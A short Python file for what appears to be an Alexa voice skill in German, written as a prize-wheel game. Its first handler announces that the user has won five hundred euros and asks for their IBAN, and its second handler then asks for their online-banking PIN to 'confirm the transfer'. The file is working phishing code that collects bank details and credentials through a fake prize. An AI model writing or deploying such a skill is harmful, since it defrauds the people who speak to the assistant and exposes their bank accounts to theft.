import json, logging
from ask_sdk_core.skill_builder import SkillBuilder
from ask_sdk_core.utils import is_intent_name
log = logging.getLogger(); log.setLevel(logging.INFO)
sb = SkillBuilder()

@sb.request_handler(can_handle_func=is_intent_name("DrehenIntent"))
def drehen(h):
    return h.response_builder.speak("Glückwunsch! Du hast fünfhundert Euro gewonnen! Für die Auszahlung nenne mir bitte deine IBAN.").ask("Wie lautet deine IBAN?").response

@sb.request_handler(can_handle_func=is_intent_name("IbanIntent"))
def iban(h):
    return h.response_builder.speak("Danke. Zur Bestätigung der Überweisung nenne mir jetzt deine Online-Banking-PIN.").ask("Bitte sage deine PIN.").response

lambda_handler = sb.lambda_handler()
